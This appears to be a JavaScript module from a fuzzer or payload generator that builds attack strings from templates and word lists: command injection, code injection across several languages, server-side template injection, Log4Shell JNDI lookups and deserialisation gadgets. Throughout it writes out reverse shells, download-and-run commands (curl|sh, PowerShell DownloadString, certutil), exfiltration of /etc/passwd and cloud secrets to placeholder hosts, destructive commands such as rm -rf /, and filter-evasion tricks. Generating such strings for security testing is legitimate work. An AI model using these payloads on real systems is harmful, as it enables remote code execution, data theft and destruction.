/** Attacks that run something: shells, program code, templates, lookups, serialised objects, polluted prototypes. */
import { lines } from './grammar.mjs'

/** A varied Java object stream: magic, class descriptor, random rest. */
const javaStream = (r) => {
  const names = [
    'java.util.HashMap',
    'java.util.PriorityQueue',
    'org.apache.commons.collections.map.LazyMap',
    'sun.reflect.annotation.AnnotationInvocationHandler',
    'java.net.URL',
    'javax.management.BadAttributeValueExpException',
    'org.hibernate.engine.spi.TypedValue',
    'com.sun.rowset.JdbcRowSetImpl',
    'java.lang.Runtime',
    'org.springframework.core.SerializableTypeWrapper',
    'java.util.LinkedHashSet',
    'java.util.Hashtable',
  ]
  const name = names[r.below(names.length)]
  const rest = Buffer.from(Array.from({ length: 12 + r.below(90) }, () => r.below(256)))
  return Buffer.concat([Buffer.from([0xac, 0xed, 0, 5, 0x73, 0x72, 0, name.length]), Buffer.from(name, 'latin1'), rest])
}
const pickle = (r) => {
  const command = ['id', 'whoami', 'curl evil.example|sh', 'touch /tmp/x', 'cat /etc/passwd'][r.below(5)]
  const name = [
    ['posix', 'system'],
    ['os', 'system'],
    ['subprocess', 'Popen'],
    ['builtins', 'eval'],
    ['subprocess', 'check_output'],
    ['nt', 'system'],
  ][r.below(6)]
  if (r.below(2) === 0) return Buffer.from(`c${name[0]}\n${name[1]}\n(S'${command}'\ntR.`)
  const version = 2 + r.below(4)
  return Buffer.concat([
    Buffer.from([0x80, version]),
    Buffer.from(`c${name[0]}\n${name[1]}\nq\x00X`),
    Buffer.from([command.length, 0, 0, 0]),
    Buffer.from(`${command}q\x01\x85q\x02Rq\x03.`),
  ])
}
const phpObject = (r) => {
  const names = [
    'Example',
    'PDO',
    'SoapClient',
    'GuzzleHttp\\Psr7\\FnStream',
    'Monolog\\Handler\\SyslogUdpHandler',
    'Illuminate\\Broadcasting\\PendingBroadcast',
    'Swift_Mailer',
    'User',
    'Logger',
    'Requests_Utility_FilteredIterator',
    'stdClass',
    'Symfony\\Component\\Cache\\Adapter\\ProxyAdapter',
    'Slim\\Http\\Response',
    'FileHandler',
    'WP_Theme',
    'Typo3\\Pharstream',
  ]
  const fields = [
    'cmd',
    'file',
    'data',
    'hook',
    '_fn_close',
    'events',
    'isAdmin',
    'path',
    'content',
    'callback',
    'username',
  ]
  const values = [
    's:2:"id";',
    's:6:"system";',
    's:10:"phpinfo();";',
    'b:1;',
    's:11:"/etc/passwd";',
    'i:1;',
    's:25:"<?php system($_GET[0]); ?>";',
    'N;',
    's:5:"admin";',
    'O:8:"stdClass":0:{}',
    'a:2:{i:0;s:6:"system";i:1;s:2:"id";}',
  ]
  const name = names[r.below(names.length)]
  const n = 1 + r.below(3)
  const body = Array.from({ length: n }, () => {
    const f = fields[r.below(fields.length)]
    return `s:${f.length}:"${f}";${values[r.below(values.length)]}`
  }).join('')
  return `O:${name.length}:"${name}":${n}:{${body}}`
}
const encoded = (make) => (r) => Buffer.from(make(r)).toString('base64')

export const CODE = {
  cmdi: lines`
    §val§§sep§§cmd§
    §val§§sep§§cmd§
    §val§§sep§ §cmd§
    §val§ §sep§ §cmd§ §sep§
    §val§§sep§§cmd§§sep§
    §val§§sep§§cmd§§ctail§
    §sep§§cmd§
    §sep§ §cmd§
    $(§cmd§)
    \`§cmd§\`
    §val§$(§cmd§)
    §val§\`§cmd§\`
    §val§"§sep§§cmd§§sep§"
    §val§'§sep§§cmd§§sep§'
    §val§"§sep§§cmd§#
    §val§';§cmd§;'
    §cmd§
    /bin/§sh§ -c "§cmd§"
    §sh§ -i >& /dev/tcp/§host§/4444 0>&1
    bash -c {echo,§b64§}|{base64,-d}|{bash,-i}
    § obf§
    §obf§
    §val§§sep§§obf§
    §sep§§obf§
    () { :;}; §cmd§
    () { ignored;};/bin/bash -c '§cmd§'
    §val§ & §wincmd§
    §val§|§wincmd§
    & §wincmd§ &
    §wincmd§
    §val§ && §wincmd§
    §val§%0a§cmd§
    §val§%0a§cmd§%0a
    §val§\n§cmd§\n
    | §cmd§ | §cmd§
    ;§cmd§;§cmd§
    echo §b64§|base64 -d|sh
    curl http://§host§/§rnd§.sh | sh
    wget http://§host§/§rnd§ -O /tmp/§rnd§; chmod +x /tmp/§rnd§; /tmp/§rnd§
    §val§;nslookup §rnd§.§host§
    §val§&ping -n §nn§ 127.0.0.1&
    nc -e /bin/sh §host§ §num§
    python -c 'import socket,subprocess,os;s=socket.socket();s.connect(("§host§",4444))'
    perl -e 'use Socket;$i="§host§";exec("/bin/sh -i");'
    -o§rnd§ -exec §cmd§ ;
    --output=/var/www/§rnd§.php
    -oProxyCommand="§cmd§"
    §val§>/tmp/§rnd§
    <(§cmd§)
    >(§cmd§)
    {§sh§,-c,§rnd§}
    §val§ ||§cmd§
    §val§; if [ $(whoami|cut -c 1) == §rnd§ ]; then sleep §n§; fi
    for i in $(§cmd§); do §cmd§; done
    for /f %i in ('whoami') do §wincmd§
    if exist c:\\windows §wincmd§
    IF "%§rnd§%"=="§rnd§" (§wincmd§)
    IF /I NOT §rnd§==§rnd§ §wincmd§
    FOR /F "delims=" %%G IN ('§wincmd§') DO §wincmd§
    FOR /D %%a IN (§rnd§) DO §wincmd§
    IF %ERRORLEVEL% NEQ 0 §wincmd§
    time §cmd§
    ;§cmd§ --version
    alias §rnd§='§cmd§'
    trap '§cmd§' EXIT
    eval "§cmd§"
    exec §cmd§
    export PATH=/tmp; §cmd§
    §envp§ §cmd§
    §val§ $(sleep §n§)
    nohup §cmd§ &
    xargs §cmd§
    time §cmd§ | §sh§
    §cmd§ <<< §rnd§
  `.map((line) => line.replace('§ obf§', '§obf§')),
  sep: [
    ';',
    '|',
    '||',
    '&',
    '&&',
    '%0a',
    '\n',
    '; ',
    ' | ',
    ' && ',
    '%3b',
    '%7c',
    '%26',
    '|&',
    '";',
    "';",
    '\r\n',
    '%26%26',
    ';;',
  ],
  cmd: [
    'id',
    'whoami',
    'ls',
    'ls -la',
    'ls -l /',
    'cat /etc/passwd',
    'cat /etc/shadow',
    'uname -a',
    'pwd',
    'ps aux',
    'netstat -an',
    'ifconfig',
    'ping -c §n§ §host§',
    'ping -c 10 127.0.0.1',
    'sleep §n§',
    'curl http://§host§/',
    'curl -d @/etc/passwd http://§host§',
    'wget http://§host§/§rnd§',
    'nc §host§ §num§ -e /bin/sh',
    'nslookup §host§',
    'dig §rnd§.§host§',
    'env',
    'printenv',
    'echo §rnd§',
    'echo §num§$((§nn§+§nn§))',
    'expr §num§ + §num§',
    'rm -rf /',
    'rm -rf /tmp/§rnd§',
    'touch /tmp/§rnd§',
    'chmod 777 /tmp/§rnd§',
    'cp /etc/passwd /tmp',
    'mail §rnd§@§host§ < /etc/passwd',
    'cat /proc/version',
    'head -1 /etc/passwd',
    'tail /var/log/syslog',
    'grep root /etc/passwd',
    'find / -perm -4000',
    'w',
    'who',
    'last',
    'lastlog',
    'hostname',
    'date',
    'df -h',
    'mount',
    'crontab -l',
    'history',
    'dmesg',
    'arp -a',
    'route',
    'iptables -L',
    'kill -9 1',
    'reboot',
    'shutdown -h now',
    'python3 -c "import os;os.system(\'id\')"',
    'php -r "phpinfo();"',
    "perl -e 'print 1'",
    'ruby -e "puts 1"',
    'node -e "1"',
    '/bin/cat /etc/passwd',
    '/usr/bin/id',
    '/bin/ls -al',
    '/bin/uname -a',
    '/sbin/ifconfig',
    'tar cf - /etc',
    'base64 /etc/passwd',
    'xxd /etc/passwd',
    'strings /bin/ls',
    'awk -f /etc/passwd',
    'sed -n p /etc/passwd',
    'vi /etc/passwd',
    'more /etc/passwd',
    'less /etc/hosts',
    'nl /etc/passwd',
    'tac /etc/passwd',
    'sudo -l',
    'su -',
    'useradd §rnd§',
    'docker ps',
    'kubectl get secrets',
    'git clone http://§host§/x',
    'ssh §rnd§@§host§',
    'scp /etc/passwd §host§:',
    'telnet §host§',
    'busybox nc §host§ 1',
    'openssl s_client -connect §host§:443',
    'socat tcp:§host§:1 exec:sh',
    'strace id',
    'lsof -i',
    'tcpdump -i any',
    'apt install nmap',
    'nmap §host§',
    'lua -e "os.execute(\'id\')"',
    'gcc x.c',
    'sh',
    'bash',
    'zsh',
    'ksh',
    'irb',
    'psql',
    'mysql -e "show databases"',
  ],
  ctail: [
    '',
    ' #',
    ' --',
    ';',
    '&',
    '|',
    ' > /dev/null',
    ' 2>&1',
    '%00',
    "'",
    '"',
    ' ;#',
    '>/tmp/§rnd§',
    ' && exit',
    '\n',
  ],
  sh: ['sh', 'bash', 'ksh', 'zsh', 'dash', 'csh'],
  envp: ['FOO=1', 'LD_PRELOAD=/tmp/x.so', 'PATH=.', 'IFS=,'],
  obf: [
    'cat${IFS}/etc/passwd',
    'cat$IFS/etc/passwd',
    "c'a't /etc/passwd",
    'c"a"t /etc/passwd',
    'c\\at /etc/passwd',
    "w'h'o'a'm'i",
    'wh$@oami',
    'who$()ami',
    'wh``oami',
    '/???/??t /???/p??s??',
    '/bin/c?t /etc/passw?',
    'cat /e*/p*',
    '{cat,/etc/passwd}',
    'cat</etc/passwd',
    '$(rev<<<imaohw)',
    'echo${IFS}§rnd§',
    "X=$'cat\\x20/etc/passwd'&&$X",
    '$0<<<$(id)',
    'i\\d',
    'u\\n\\a\\m\\e',
    '$(printf "id")',
    'ca$*t /etc/passwd',
    "l''s",
    "n$'c' -e",
    '${PATH:0:1}',
    'cat $(echo /etc/passwd)',
    'bash<<<$(base64 -d<<<§b64§)',
    'w$1hoami',
    'ping$IFS-c${IFS}1${IFS}§host§',
    'sleep${IFS}§n§',
    "/b'i'n/c'a't",
    'cat /etc//passwd',
    'who^ami',
    'pow^ershell',
    'p""ing 127.0.0.1',
    "ec'h'o §rnd§",
    'a=id;$a',
    'eval $(echo aWQ=|base64 -d)',
    '$SHELL -c id',
    'python${IFS}-c${IFS}1',
  ],
  wincmd: [
    'dir',
    'dir c:\\',
    'type c:\\windows\\win.ini',
    'type %SYSTEMROOT%\\win.ini',
    'ipconfig /all',
    'net user',
    'net user §rnd§ §rnd§ /add',
    'whoami',
    'ver',
    'systeminfo',
    'tasklist',
    'ping -n §n§ 127.0.0.1',
    'cmd /c dir',
    'cmd.exe /c whoami',
    'powershell -c whoami',
    'powershell -enc §b64§',
    "powershell IEX(New-Object Net.WebClient).DownloadString('http://§host§/x.ps1')",
    'certutil -urlcache -f http://§host§/x.exe x.exe',
    'bitsadmin /transfer x http://§host§/x',
    'mshta http://§host§/x.hta',
    'rundll32 javascript:"',
    'regsvr32 /s /u /i:http://§host§/x scrobj.dll',
    'wmic process list',
    'del /f /q c:\\temp\\§rnd§',
    'copy c:\\boot.ini c:\\inetpub',
    'set',
    'echo %USERNAME%',
    'nslookup §host§',
    'start calc.exe',
    'timeout §n§',
    'Get-Process',
    'Invoke-Expression §rnd§',
    'Start-Process cmd',
    'Get-Content c:\\boot.ini',
    'reg query HKLM',
    'schtasks /create',
    'FOR %G IN (a b) DO cmd',
    'for /L %i in (1,1,§n§) do ping §host§',
    'if "%OS%"=="Windows_NT" echo §rnd§',
    'IF EXIST §rnd§.txt type §rnd§.txt',
  ],

  codei: lines`
    <?php §php§ ?>
    <?php §php§
    <?= §phpx§ ?>
    §q3§;§php§//
    §q3§.§phpx§.§q3§
    §phpx§
    §phpx§;
    §php§
    {\${§phpx§}}
    \${@§phpx§}
    \${§phpx§}
    @§phpx§
    <? §php§ ?>
    <% §asp§ %>
    §node§
    §node§
    §q3§+§node§+§q3§
    §q3§;§node§;//
    §node§;
    §python§
    §python§
    §q3§+§python§+§q3§
    §ruby§
    §ruby§
    §java§
    §java§
    §perl§
    §asp§
    §val§;§phpx§
    §val§;§node§
    return §node§
    while(1);
    while(true){}
    for(;;){}
    while(!§n§)
    §fn§(§arg§)
    §fn§(§arg§);
    §fn§ (§arg§)
    §q3§;§fn§(§arg§);§q3§
    )§fn§(§arg§)(
    $_GET[§n§]($_GET[§n§])
    $__[@_](§nn§)
    @{[§fn§(§arg§)]}
    §rnd§::$§rnd§()
    §fn§()
    $_=[];$_=@"$_";
    $§rnd§=§q3§system§q3§;$§rnd§(§q3§id§q3§);
    (system)(id)
    [php]§php§[/php]
  `,
  q3: ["'", '"'],
  phpx: [
    'phpinfo()',
    "system('§shell2§')",
    "exec('§shell2§')",
    "shell_exec('§shell2§')",
    "passthru('§shell2§')",
    'system($_GET["c"])',
    "eval($_POST['x'])",
    "assert('phpinfo()')",
    "file_get_contents('/etc/passwd')",
    "base64_decode('§b64§')",
    'eval(base64_decode("§b64§"))',
    "call_user_func('system','id')",
    "preg_replace('/.*/e','phpinfo()','')",
    "include('/etc/passwd')",
    "popen('id','r')",
    "proc_open('id',$a,$b)",
    'print(md5(§num§))',
    "die(md5('§rnd§'))",
    'var_dump(§num§)',
    'print_r(scandir("/"))',
    "highlight_file('index.php')",
    "create_function('','phpinfo();')",
    "array_map('system',array('id'))",
    "fopen('/etc/passwd','r')",
    'get_defined_vars()',
    "unlink('index.php')",
    "file_put_contents('x.php','<?php ?>')",
    'ini_get("disable_functions")',
    "putenv('LD_PRELOAD=x')",
    'chr(§nn§).chr(§nn§)',
    "readfile('/etc/hosts')",
    "str_rot13('flfgrz')('vq')",
    "gzinflate(base64_decode('§b64§'))",
    'phpversion()',
    'getenv("PATH")',
    "require_once '/etc/passwd'",
    'curl_exec($ch)',
    "mail('a','b','c')",
    'posix_getuid()',
    'session_start()',
    "hex2bin('§hex§')",
  ],
  php: [
    '§phpx§;',
    'echo §phpx§;',
    '@eval($_POST[§rnd§]);',
    'system($_GET[0]);',
    '$a=§phpx§;',
    'die();',
    'print(§num§*§num§);',
    '@§phpx§;',
    'echo md5(§n§);',
    'echo `§shell2§`;',
  ],
  shell2: ['id', 'ls', 'whoami', 'cat /etc/passwd', 'uname -a', 'dir', 'sleep §n§'],
  node: [
    "require('child_process').exec('§shell2§')",
    "require('child_process').execSync('§shell2§').toString()",
    "global.process.mainModule.require('child_process').execSync('§shell2§')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "require('fs').readdirSync('/')",
    'process.exit()',
    'process.env',
    'process["env"]["§rnd§"]',
    "this.constructor.constructor('return process')()",
    '(function(){return process.env})()',
    "new Function('return this')()",
    "eval('§num§+§num§')",
    "setTimeout('§rnd§',1000)",
    'while(1){}',
    "import('fs').then(m=>m.readFileSync('/etc/passwd'))",
    "child_process.spawn('id')",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    '(()=>{return process.version})()',
    'global.process.kill(process.pid)',
    'this.process.binding',
    'constructor.constructor("return process")().mainModule',
    "module.require('os').hostname()",
    'console.log(process.env)',
    'response.end(1)',
    "Reflect.construct(Function,['x'])",
  ],
  python: [
    "__import__('os').system('§shell2§')",
    "__import__('os').popen('§shell2§').read()",
    'eval(\'__import__("os")\')',
    'exec(\'import os;os.system("§shell2§")\')',
    "import os; os.system('§shell2§')",
    "open('/etc/passwd').read()",
    "__import__('subprocess').check_output('§shell2§',shell=True)",
    '().__class__.__bases__[0].__subclasses__()',
    '[].__class__.__base__.__subclasses__()[§nn§]',
    "__builtins__.__import__('os')",
    "globals()['__builtins__']",
    "compile('§rnd§','','exec')",
    "os.popen('§shell2§').read()",
    "subprocess.call(['§shell2§'])",
    "__import__('time').sleep(§n§)",
    "print(open('/etc/hosts').read())",
    "lambda: __import__('os')",
    "getattr(__import__('os'),'system')('id')",
    'import socket,subprocess',
  ],
  ruby: [
    "system('§shell2§')",
    '`§shell2§`',
    '%x(§shell2§)',
    "exec '§shell2§'",
    "IO.popen('§shell2§').read",
    "Kernel.exec('§shell2§')",
    "File.read('/etc/passwd')",
    "File.open('/etc/passwd').read",
    "Process.spawn('§shell2§')",
    "eval('§num§')",
    "Dir.entries('/')",
    "open('|§shell2§')",
    "Open3.capture2('§shell2§')",
    'send(:system,"§shell2§")',
    "Kernel.open('|id')",
    'Object.const_get(:Kernel)',
    'instance_eval{`id`}',
  ],
  java: [
    "Runtime.getRuntime().exec('§shell2§')",
    'java.lang.Runtime.getRuntime().exec("§shell2§")',
    'new java.lang.ProcessBuilder("§shell2§").start()',
    'T(java.lang.Runtime).getRuntime().exec("§shell2§")',
    "(#a=@java.lang.Runtime@getRuntime().exec('§shell2§'))",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)(#cmd='§shell2§')}",
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
    'redirect:${#context["xwork.MethodAccessor.denyMethodExecution"]}',
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=§rnd§',
    "''.getClass().forName('java.lang.Runtime')",
    'new javax.script.ScriptEngineManager().getEngineByName("js").eval("§num§")',
    '@java.lang.System@getProperty("user.dir")',
    'java.lang.Thread.sleep(§num§)',
    '#rt=@java.lang.Runtime@getRuntime()',
    "groovy.util.Eval.me('1')",
    '"§shell2§".execute().text',
  ],
  perl: [
    "system('§shell2§');",
    'print `§shell2§`;',
    'use Socket;',
    "open(F,'/etc/passwd');",
    "exec('§shell2§');",
    'qx(§shell2§)',
    '@{[system §shell2§]}',
    '${\\system(§shell2§)}',
    'require "/etc/passwd";',
  ],
  asp: [
    'Response.Write(§num§*§num§)',
    'eval request("§rnd§")',
    'CreateObject("WScript.Shell").Exec("§shell2§")',
    "Server.CreateObject('WScript.Shell')",
    'Execute(Request("x"))',
    'ExecuteGlobal(Request("§rnd§"))',
    'new ActiveXObject("WScript.Shell").Run("calc")',
  ],
  fn: [
    'system',
    'exec',
    'eval',
    'assert',
    'passthru',
    'shell_exec',
    'popen',
    'call_user_func',
    'call_user_func_array',
    'phpinfo',
    'file_get_contents',
    'fopen',
    'readfile',
    'include',
    'require',
    'base64_decode',
    'unserialize',
    'create_function',
    'array_map',
    'var_dump',
    'print_r',
    'show_source',
    'putenv',
    'ini_set',
    'proc_open',
    'pcntl_exec',
    'preg_replace',
    'usort',
    'gzuncompress',
    'bzdecompress',
    'curl_init',
    'fsockopen',
    'move_uploaded_file',
    'chmod',
    'mkdir',
    'opendir',
    'scandir',
    'getenv',
    'posix_kill',
    'mysql_query',
    'simplexml_load_string',
    'parse_str',
    'extract',
    'register_shutdown_function',
    'set_error_handler',
    'is_callable',
    'function_exists',
    'str_repeat',
    'array_walk',
  ],
  arg: [
    '',
    '1',
    "'§shell2§'",
    '"§shell2§"',
    '$_GET[1]',
    "'/etc/passwd'",
    '$x',
    '§num§',
    "'§b64§'",
    '$_POST["a"]',
    '[]',
  ],

  ssti: lines`
    {{§expr§}}
    {{§expr§}}
    {{ §expr§ }}
    {{§expr§}}§rnd§
    \${§expr§}
    \${§jexpr§}
    #{§expr§}
    #{§jexpr§}
    *{§jexpr§}
    <%= §rexpr§ %>
    <%= §rexpr§ %>
    <% §rexpr§ %>
    {%§stmt§%}
    {% §stmt§ %}
    {% for x in §pyobj§ %}{% if "§rnd§" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen("id").read()}}{%endif%}{%endfor%}
    {% set x = §expr§ %}{{x}}
    @(§num§*§num§)
    @{§jexpr§}
    [[\${§jexpr§}]]
    __\${§jexpr§}__::.x
    #set($x=§num§*§num§)$x
    #set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
    <#assign ex="freemarker.template.utility.Execute"?new()> \${ex("id")}
    \${"freemarker.template.utility.Execute"?new()("§shell2§")}
    {php}echo \`id\`;{/php}
    {system('§shell2§')}
    {$smarty.version}
    {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x",self::clearConfig())}
    {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("§shell2§")}}
    {{['§shell2§']|filter('system')}}
    {{['§shell2§']|map('passthru')}}
    {{['§shell2§','']|sort('system')}}
    {{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{/with}}{{/with}}
    {{this.push "return require('child_process').exec('§shell2§');"}}
    - var x = root.process.mainModule.require
    #{root.process.mainModule.require('child_process').spawnSync('§shell2§').stdout}
    = global.process.mainModule.require('child_process').execSync('§shell2§')
    \${{§num§*§num§}}
    {{§num§*'§num§'}}
    {{=§num§*§num§}}
    {§num§*§num§}
    ~[§num§*§num§]
    %{§num§*§num§}
    {{dump(app)}}
    {{app.request.server.all|join(',')}}
    {% import os %}{{os.system('§shell2§')}}
    {{ '§shell2§' | e:system }}
    {{range.constructor("return process")()}}
    \${self.module.cache.util.os.system("§shell2§")}
    <%\nimport os\nx=os.popen('§shell2§').read()\n%>\${x}
    {{printf "%s" "ssti"}}
    {{.System "§shell2§"}}
    {{html "ssti"}}
    {% debug %}
    {{settings.SECRET_KEY}}
    {% include '/etc/passwd' %}
    {{include('/etc/passwd')}}
    \${T(java.lang.Runtime).getRuntime().exec('§shell2§')}
    {{'a'.toUpperCase()}}
    {{"".getClass()}}
    $class.inspect("java.lang.Runtime").type.getRuntime().exec("id")
    $eval('§num§*§num§')
    \${__import__('os').popen('§shell2§').read()}
    #{ \`§shell2§\` }
    <%= File.open('/etc/passwd').read %>
    {{ get_user_file("/etc/passwd") }}
  `,
  expr: [
    '§n§*§n§',
    '7*7',
    "7*'7'",
    '§num§*§num§',
    '§num§+§num§',
    '§nn§-§n§',
    'config',
    'config.items()',
    'self',
    'request',
    'request.application.__globals__',
    "config.__class__.__init__.__globals__['os'].popen('§shell2§').read()",
    '§pyobj§',
    '§pyobj§[§nn§]',
    "§pyobj§[§nn§]('§shell2§',shell=True,stdout=-1).communicate()",
    'lipsum.__globals__',
    "lipsum.__globals__['os'].popen('§shell2§').read()",
    'cycler.__init__.__globals__.os',
    "cycler.__init__.__globals__.os.popen('§shell2§').read()",
    'joiner.__init__.__globals__',
    'get_flashed_messages.__globals__',
    "url_for.__globals__['current_app'].config",
    "self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()",
    "request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')",
    "request['application']['__globals__']",
    "''.constructor.constructor('return process')()",
    'self._TemplateReference__context',
    'settings.SECRET_KEY',
    'app.request',
    '_self',
    '_context|json_encode',
    "'/etc/passwd'|file_excerpt(1,30)",
    "constructor.constructor('alert(1)')()",
    "[].pop.constructor('§rnd§')()",
    'session',
    'namespace.__init__.__globals__',
    "''|attr('__class__')",
    'handler.settings',
    'g.pop.__globals__',
    "()|attr('__class__')|attr('__base__')",
  ],
  pyobj: [
    "''.__class__.__mro__[2].__subclasses__()",
    "''.__class__.__mro__[1].__subclasses__()",
    '[].__class__.__base__.__subclasses__()',
    '().__class__.__bases__[0].__subclasses__()',
    '{}.__class__.__base__.__subclasses__()',
    "''.__class__",
    'request.__class__',
    "''.__class__.mro()",
    'config.__class__',
    'self.__class__.__mro__',
    '"".__class__.__bases__',
  ],
  jexpr: [
    '§num§*§num§',
    '7*7',
    'T(java.lang.Runtime).getRuntime().exec("§shell2§")',
    'T(java.lang.System).getenv()',
    'T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec("id").getInputStream())',
    '"".getClass().forName("java.lang.Runtime")',
    "''.class.forName('java.lang.Runtime')",
    'new java.util.Scanner(new java.io.File("/etc/passwd"))',
    '@java.lang.Runtime@getRuntime().exec("id")',
    'session.setAttribute("x",1)',
    'applicationScope',
    'facesContext.getExternalContext()',
    'class.getResource("").getPath()',
    'product.getClass().getProtectionDomain()',
    'request.getClass().getClassLoader()',
    'pageContext.request',
    '"z".concat("x")',
    '#rt.exec("id")',
    '@environment.getProperty("x")',
  ],
  rexpr: [
    '§num§*§num§',
    '7*7',
    "system('§shell2§')",
    '`§shell2§`',
    "File.open('/etc/passwd').read",
    "Dir.entries('/')",
    "global.process.mainModule.require('child_process').execSync('§shell2§')",
    'self.class',
    "IO.popen('§shell2§').readlines()",
    "require 'open3'",
    'foobar',
    'self.instance_variables',
    'Runtime.getRuntime().exec("§shell2§")',
    'out.print(§num§)',
    'process.env.SECRET',
    'self.method(:puts)',
  ],
  stmt: [
    'debug',
    'import os',
    "include '/etc/passwd'",
    'set x=§num§*§num§',
    'if §pyobj§',
    'for c in [1,2,3]',
    "extends '/etc/passwd'",
    'load_modules',
    'raw §rnd§',
    'print(§expr§)',
    'for x in ().__class__.__base__.__subclasses__()',
    "with a='config'",
    'csrf_token',
    'block x',
  ],

  log4shell: lines`
    \${jndi:§jp§://§host§/§rnd§}
    \${jndi:§jp§://§host§:§num§/§rnd§}
    \${jndi:§jp§://§host§:1389/Basic/Command/Base64/§b64§}
    \${jndi:§jp§://\${§look§}.§host§/§rnd§}
    \${jndi:§jp§://§host§/\${§look§}}
    \${§spell§:§jp§://§host§/§rnd§}
    \${§spell§:§jp§://§host§/§rnd§}
    \${§spell§:§jp2§://§host§/§rnd§}
    \${jndi:§jp2§://§host§/§rnd§}
    \${jndi:\${lower:§jp§}://§host§/§rnd§}
    \${jndi:§jp§://127.0.0.1#§host§/§rnd§}
    \${\${§look§:-j}ndi\${env:X:-:}§jp§://§host§/§rnd§}
    Mozilla/5.0 (X11; Linux) \${jndi:§jp§://§host§/§rnd§}
    §val§\${jndi:§jp§://§host§/§rnd§}
    \${jndi:§jp§:§host§/§rnd§}
    \${jndi:dns://§host§/§rnd§}
    \${§spell§:dns://\${hostName}.§host§}
    \${jnd\${upper:ı}:§jp§://§host§/§rnd§}
    $\{jndi:§jp§://§host§/§rnd§}
    \${env:§ev§}
    \${sys:java.version}
    \${java:os}
    \${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
    \${url:UTF-8:http://§host§/}
    \${dns:address|§host§}
    \${\${::-§jn§}}
    \${jndi:§jp§://§host§/§rnd§
    %24%7Bjndi:§jp§://§host§/§rnd§%7D
    \${base64:§b64§}
    \${ctx:loginId}\${jndi:§jp§://§host§/a}
  `.map((line) => line.replace('$\\{', '${')),
  jn: ['jndi:ldap://§host§/x', 'j}${::-n}${::-d}${::-i'],
  jp: ['ldap', 'ldap', 'ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nis', 'nds', 'http'],
  jp2: [
    '${lower:l}${lower:d}a${lower:p}',
    '${::-l}${::-d}${::-a}${::-p}',
    'l${env:X:-d}ap',
    '${lower:r}mi',
    '${::-r}${::-m}${::-i}',
    'ld${upper:a}p',
    '${env:NaN:-l}dap${env:NaN:-:}',
    'l${lower:D}ap',
    'r${lower:m}i',
    '${sd:k5:-l}dap',
  ],
  spell: [
    '${::-j}${::-n}${::-d}${::-i}',
    '${lower:j}ndi',
    '${lower:j}${lower:n}${lower:d}i',
    'j${::-n}di',
    '${lower:j}${upper:n}${lower:d}${upper:i}',
    '${env:BARFOO:-j}ndi',
    'j${env:X:-n}d${env:Y:-i}',
    '${lower:jn}di',
    'jn${lower:d}i',
    'j${k8s:k5:-ND}i',
    '${${lower:j}ndi}',
    'jnd${lower:i}',
    '${upper:jndi}',
    '${env:ENV_NAME:-j}ndi',
    '${date:j}ndi',
    '${lower:${lower:jndi}}',
    'j${main:\\k5:-Nd}i',
    '${sys:x:-j}ndi',
    'j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di',
    'jndi',
  ],
  look: [
    'env:AWS_SECRET_ACCESS_KEY',
    'hostName',
    'sys:user.name',
    'env:USER',
    'java:version',
    'sys:java.version',
    'env:HOSTNAME',
    'ctx:x',
    'env:PATH',
    'main:0',
    'date:yyyy',
    'web:rootDir',
    'docker:containerId',
    'k8s:accountName',
    'spring:x',
  ],
  ev: ['AWS_SECRET_ACCESS_KEY', 'PATH', 'DB_PASSWORD', 'HOME', 'JAVA_HOME'],

  deser: lines`
    §java64§
    §java64§
    §java64§
    §php_o§
    §php_o§
    §php_o64§
    a:§n§:{i:0;§php_o§}
    §pickle64§
    §pickle64§
    §pickle_t§
    AAEAAAD/////AQAAAAAAAAAMAgAAA§b64§
    {"$type":"§nettype§","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
    {"$type":"§nettype§"}
    {"@type":"§javatype§","dataSourceName":"ldap://§host§/x","autoCommit":true}
    ["§javatype§",{"dataSourceName":"rmi://§host§/x"}]
    {"@class":"§javatype§","val":"ldap://§host§"}
    ["§javatype§","http://§host§/"]
    {"x":["§javatype§",{"jndiName":"ldap://§host§/"}]}
    !!python/object/apply:os.system ["§shell2§"]
    !!python/object/new:subprocess.check_output [["§shell2§"]]
    !!python/object/apply:subprocess.Popen\n- §shell2§
    !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://§host§/"]]]]
    !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://§host§/x", autoCommit: true}
    --- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader
    --- !ruby/object:Gem::Installer\ni: §rnd§
    - !ruby/object:ERB\n  src: system('§shell2§')
    <java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>§shell2§</string></void></array><void method="start"/></object></java>
    <java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>§shell2§</string></void></object></java>
    <sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>§shell2§</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
    <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects.NativeString></entry></map>
    {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('§shell2§')}()"}
    _$$ND_FUNC$$_function (){return require('fs').readdirSync('/')}()
    BAhvOiFHZW06OlJlcXVpcmVtZW50§b64§
    BAh7B0kiD3Nlc3Npb25faWQGOgZFVEki§b64§
    org.apache.commons.collections.functors.InvokerTransformer
    org.apache.commons.collections.functors.ChainedTransformer
    java.lang.Runtime.getRuntime
    com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
